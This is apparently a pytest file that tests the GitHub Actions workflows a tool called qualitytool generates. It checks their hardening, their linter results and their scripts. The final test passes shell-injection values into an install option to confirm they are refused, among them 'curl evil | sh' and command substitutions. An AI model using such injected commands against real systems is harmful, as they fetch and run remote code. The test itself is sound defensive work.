"""The GitHub Actions workflows of ``qualitytool init --ci`` pass zizmor and actionlint.

zizmor (at its default persona, offline) may report one thing only: ``unpinned-uses``, once
per ``uses:`` step, because the actions are pinned to a major version rather than to a commit
SHA (no commit could be confirmed where the templates were written; docs/ci.md says how to
pin them).  actionlint reports nothing.  Both run for real on the generated files; a test
skips, saying why, only when the tool is not installed (``pip install -e '.[dev]'`` installs
both).  The other tests read the generated YAML, and run the gate's and the sync's own
``run:`` lines in a real git repository and against the local fake GitHub server.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from qualitytool.cli import main

from .github_server import FakeGitHub
from .gitrepo import GitRepo

WORKFLOWS = ["qualitytool-exceptions.yml", "qualitytool-report.yml", "qualitytool-todos.yml"]
# The newest major of each action that the stored release notes confirm (see docs/ci.md).
ACTIONS = {"actions/checkout@v6", "actions/setup-python@v6", "actions/upload-artifact@v7",
           "actions/download-artifact@v8", "github/codeql-action/upload-sarif@v4"}
SHARDS = [1, 4]


def generate(root: Path, shards: int) -> Path:
    """``init --ci`` into a fresh git repository; the workflows folder."""
    GitRepo(root)
    result = CliRunner().invoke(main, ["init", str(root), "--ci", "--shards", str(shards)])
    assert result.exit_code == 0, result.output
    folder = root / ".github" / "workflows"
    assert sorted(p.name for p in folder.iterdir()) == WORKFLOWS
    return folder


def load(folder: Path) -> dict[str, Any]:
    return {name: yaml.safe_load((folder / name).read_text()) for name in WORKFLOWS}


def steps(workflow: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for job_name, job in workflow["jobs"].items():
        for step in job["steps"]:
            yield job_name, step


def tool(name: str) -> str:
    """The installed command ``name`` (next to this Python first), or skip saying why."""
    beside = Path(sys.executable).parent / name
    found = str(beside) if beside.is_file() else shutil.which(name)
    if found is None:
        how = {"zizmor": "pip install -e '.[dev]' installs it",
               "actionlint": "its upstream binary, see docs/ci.md"}.get(name, "")
        pytest.skip(f"{name} is not installed ({how})")
    return found


@pytest.mark.parametrize("shards", SHARDS)
def test_zizmor_reports_only_unpinned_uses(tmp_path: Path, shards: int) -> None:
    zizmor = tool("zizmor")
    folder = generate(tmp_path / "project", shards)
    completed = subprocess.run(
        [zizmor, "--offline", "--no-config", "--persona", "regular", "--format", "json",
         str(folder)],
        check=False, capture_output=True, text=True, timeout=300,
    )
    assert completed.returncode in (0, 13, 14), completed.stderr  # 1x: findings, by severity
    findings = [f for f in json.loads(completed.stdout) if not f["ignored"]]
    assert Counter(f["ident"] for f in findings) == Counter(
        {"unpinned-uses": len(findings)}), json.dumps(findings, indent=1)[:4000]
    # Exactly one per `uses:` step, on that step's action.
    flagged = Counter()
    for finding in findings:
        (primary,) = [loc for loc in finding["locations"] if loc["symbolic"]["kind"] == "Primary"]
        path = Path(primary["symbolic"]["key"]["Local"]["verbatim_path"]).name
        flagged[path, primary["concrete"]["feature"]] += 1
    uses = Counter((name, step["uses"]) for name, workflow in load(folder).items()
                   for _, step in steps(workflow) if "uses" in step)
    assert flagged == uses
    assert {action for _, action in uses} == ACTIONS


@pytest.mark.parametrize("shards", SHARDS)
def test_actionlint_reports_nothing(tmp_path: Path, shards: int) -> None:
    actionlint = tool("actionlint")
    folder = generate(tmp_path / "project", shards)
    completed = subprocess.run(
        [actionlint, "-format", "{{json .}}", *(str(folder / name) for name in WORKFLOWS)],
        cwd=folder.parent.parent, check=False, capture_output=True, text=True, timeout=300,
    )
    assert completed.stdout.strip(), completed.stderr  # `{{json .}}` prints [] when clean
    assert json.loads(completed.stdout) == [], completed.stdout
    assert completed.returncode == 0, completed.stderr


@pytest.mark.parametrize("shards", SHARDS)
def test_hardening_read_from_the_yaml(tmp_path: Path, shards: int) -> None:
    workflows = load(generate(tmp_path / "project", shards))
    for name, workflow in workflows.items():
        # Nothing granted at the top; every job says what it needs.
        assert workflow["permissions"] == {}, name
        for job_name, job in workflow["jobs"].items():
            granted = job["permissions"]
            assert granted.get("contents") == "read", (name, job_name)
            uploads_sarif = any(step.get("uses", "").startswith("github/codeql-action/")
                                for step in job["steps"])
            expected = {"contents": "read"}
            if uploads_sarif:
                expected["security-events"] = "write"
            if name == "qualitytool-todos.yml":
                expected["issues"] = "write"
            assert granted == expected, (name, job_name)
        for job_name, step in steps(workflow):
            # No expression inside a script: GitHub would paste its value into the shell.
            assert "${{" not in step.get("run", ""), (name, job_name, step["run"])
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False, (name, job_name)
            if "uses" in step:
                assert step["uses"] in ACTIONS, step["uses"]
            # Every variable a script expands comes from its step's env: or from GitHub.
            for variable in re.findall(r"\$\{?([A-Z_]+)", step.get("run", "")):
                assert variable in step.get("env", {}) or variable.startswith("GITHUB_"), (
                    name, job_name, variable)


def bash(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Run one ``run:`` script as the runner does (bash -e), with qualitytool on PATH."""
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    return subprocess.run(["bash", "-e", "-c", script], cwd=cwd, check=False, capture_output=True,
                          text=True, env={**os.environ, "PATH": path, **env}, timeout=300)


LEGACY = ("def load(path):\n    try:\n        return open(path).read()\n"
          "    except Exception:\n        return None\n")
NEW = ("def save(path, text):\n    try:\n        open(path, 'w').write(text)\n"
       "    except Exception:\n        pass\n")


def test_pull_request_gate_fails_on_new_handlers_only(tmp_path: Path) -> None:
    """The exceptions workflow's own scripts, in a repository whose base branch has an old
    broad handler: the gate passes; a pull request adding one fails on that one alone."""
    repo = GitRepo(tmp_path / "project")
    repo.write("app/legacy.py", LEGACY)
    repo.commit("legacy code")
    repo.git("update-ref", "refs/remotes/origin/main", "HEAD")  # what checkout fetches
    workflow = load(generate(repo.root, 1))["qualitytool-exceptions.yml"]
    by_name = {step.get("name"): step for _, step in steps(workflow)}
    gate = by_name["Fail on new broad handlers (the lines the pull request changes)"]
    assert gate["if"] == "github.event_name == 'pull_request'"
    sarif_step = by_name["Broad exception handlers (SARIF, every handler)"]
    env = {key: "main" for key in gate["env"]}  # BASE_REF: github.base_ref
    assert env == {"BASE_REF": "main"}

    untouched = bash(gate["run"], repo.root, env)
    assert untouched.returncode == 0, untouched.stdout + untouched.stderr

    repo.git("checkout", "-q", "-b", "feature")
    repo.write("app/feature.py", NEW)
    repo.write("app/legacy.py", LEGACY + "\n\nVERSION = 2\n")  # touched, its handler not
    repo.commit("a new broad handler")
    changed = bash(gate["run"], repo.root, env)
    assert changed.returncode == 1, changed.stdout + changed.stderr
    annotations = [line for line in changed.stdout.splitlines() if line.startswith("::")]
    assert len(annotations) == 1 and "file=app/feature.py" in annotations[0], changed.stdout

    # The SARIF for code scanning still holds every handler, and that step does not fail.
    sarif = bash(sarif_step["run"], repo.root, {})
    assert sarif.returncode == 0, sarif.stdout + sarif.stderr
    results = json.loads((repo.root / "qualitytool-exceptions.sarif").read_text())
    located = sorted(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                     for r in results["runs"][0]["results"])
    assert located == ["app/feature.py", "app/legacy.py"]


TOKEN = "ghp_workflow_test_token"


def test_weekly_sync_creates_at_most_max_new_issues(tmp_path: Path) -> None:
    """The todos workflow's own sync script against the local fake GitHub: a codebase with
    25 TODOs gets 20 issues on the first run and the other 5 on the next."""
    repo = GitRepo(tmp_path / "project")
    repo.write("app/work.py", "".join(f"# TODO: task number {n}\nX{n} = {n}\n"
                                      for n in range(25)))
    repo.commit("many TODOs")
    workflow = load(generate(repo.root, 1))["qualitytool-todos.yml"]
    sync_step = next(step for _, step in steps(workflow) if step.get("name") == "Sync TODO issues")
    assert sync_step["run"] == "qualitytool todos sync . --max-new 20"
    assert sync_step["env"] == {"GITHUB_TOKEN": "${{ secrets.GITHUB_TOKEN }}"}
    server = FakeGitHub(token=TOKEN).start()
    try:
        env = {"GITHUB_TOKEN": TOKEN, "GITHUB_REPOSITORY": "acme/app",
               "GITHUB_API_URL": server.base_url, "GITHUB_SHA": ""}
        script = sync_step["run"] + " --write-pause 0"  # the runner's pause, not the cap
        first = bash(script, repo.root, env)
        assert first.returncode == 0, first.stdout + first.stderr
        assert len(server.issues) == 20
        assert "--max-new 20: 5 item(s) left for a later run" in first.stdout + first.stderr
        second = bash(script, repo.root, env)
        assert second.returncode == 0, second.stdout + second.stderr
        assert len(server.issues) == 25
        assert sorted(issue["title"] for issue in server.issues.values()) == sorted(
            f"TODO: task number {n}" for n in range(25))
    finally:
        server.stop()


def documented_zizmor_config() -> str:
    """The ``zizmor.yml`` that docs/ci.md gives under "Pinning the actions"."""
    text = (Path(__file__).parent.parent / "docs" / "ci.md").read_text()
    section = text.split("### Pinning the actions", 1)[1]
    block = re.search(r"```yaml\n(# zizmor\.yml\n.*?)```", section, re.DOTALL)
    assert block is not None, "docs/ci.md: no zizmor.yml under 'Pinning the actions'"
    return block.group(1)


@pytest.mark.parametrize("shards", SHARDS)
def test_zizmor_with_the_documented_tag_policy_reports_nothing(tmp_path: Path,
                                                               shards: int) -> None:
    zizmor = tool("zizmor")
    folder = generate(tmp_path / "project", shards)
    config = folder.parent.parent / "zizmor.yml"
    config.write_text(documented_zizmor_config())
    completed = subprocess.run(
        [zizmor, "--offline", "--config", str(config), "--persona", "regular", "--format",
         "json", str(folder)],
        check=False, capture_output=True, text=True, timeout=300,
    )
    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert json.loads(completed.stdout) == []


# -- the project's branch, Python and install line -------------------------------------------


def _python_versions(folder: Path) -> set[str]:
    return {str(step["with"]["python-version"]) for workflow in load(folder).values()
            for _, step in steps(workflow)
            if str(step.get("uses", "")).startswith("actions/setup-python")}


def _push_branches(folder: Path) -> set[str]:
    found: set[str] = set()
    for workflow in load(folder).values():
        push = (workflow.get(True) or workflow.get("on") or {}).get("push") or {}
        found.update(push.get("branches") or ())
    return found


@pytest.mark.parametrize(("requires", "expected"), [
    pytest.param(">=3.13", "3.13", id="pretalx: >=3.13"),
    pytest.param(">=3.9,<3.12", "3.11", id="an upper bound"),
    pytest.param("~=3.10.0", "3.10", id="compatible release"),
    pytest.param(">=3.10,!=3.13.*", "3.12", id="an excluded version"),
    pytest.param(">=3.14", "3.12", id="none tested: the default"),
    pytest.param("three", "3.12", id="not a specifier: the default"),
    pytest.param(None, "3.12", id="no requires-python: the default"),
])
def test_the_workflows_run_a_python_the_project_admits(
    tmp_path: Path, requires: str | None, expected: str,
) -> None:
    """pretalx requires Python 3.13; workflows on 3.12 failed its install silently."""
    project = f'[project]\nname = "x"\nrequires-python = "{requires}"\n' if requires else ""
    (tmp_path / "pyproject.toml").write_text(project)
    folder = generate(tmp_path, 1)
    assert _python_versions(folder) == {expected}


def test_the_push_trigger_names_the_branch_checked_out(tmp_path: Path) -> None:
    """pretalx's repository is on master: a push trigger on main never fired."""
    repo = GitRepo(tmp_path)
    repo.write("a.py", "x = 1\n")
    repo.commit("first")
    repo.git("branch", "-m", "master")
    result = CliRunner().invoke(main, ["init", str(tmp_path), "--ci"])
    assert result.exit_code == 0, result.output
    assert "branch: master (the branch checked out)" in result.output
    assert _push_branches(tmp_path / ".github" / "workflows") == {"master"}


def test_the_options_win_and_are_shown(tmp_path: Path) -> None:
    GitRepo(tmp_path)
    result = CliRunner().invoke(main, [
        "init", str(tmp_path), "--ci", "--branch", "trunk", "--python", "3.11",
        "--install", "qualitytool[all] @ git+https://example.org/qualitytool.git@v0.1.0"])
    assert result.exit_code == 0, result.output
    assert "installs: qualitytool[all] @ git+https://example.org/qualitytool.git@v0.1.0 " \
           "(given with --install)" in result.output
    folder = tmp_path / ".github" / "workflows"
    assert _python_versions(folder) == {"3.11"}
    assert _push_branches(folder) == {"trunk"}
    text = (folder / "qualitytool-exceptions.yml").read_text()
    assert 'pip install "qualitytool[all] @ git+https://example.org/qualitytool.git@v0.1.0"' \
        in text


@pytest.mark.parametrize("spec", ['x"; curl evil | sh; "', "a$(id)", "a`id`", "a\\b", "a\nb"])
def test_an_install_line_a_shell_would_read_is_refused(tmp_path: Path, spec: str) -> None:
    GitRepo(tmp_path)
    result = CliRunner().invoke(main, ["init", str(tmp_path), "--ci", "--install", spec])
    assert result.exit_code == 2
    assert "--install" in result.output
    assert not (tmp_path / ".github").exists()
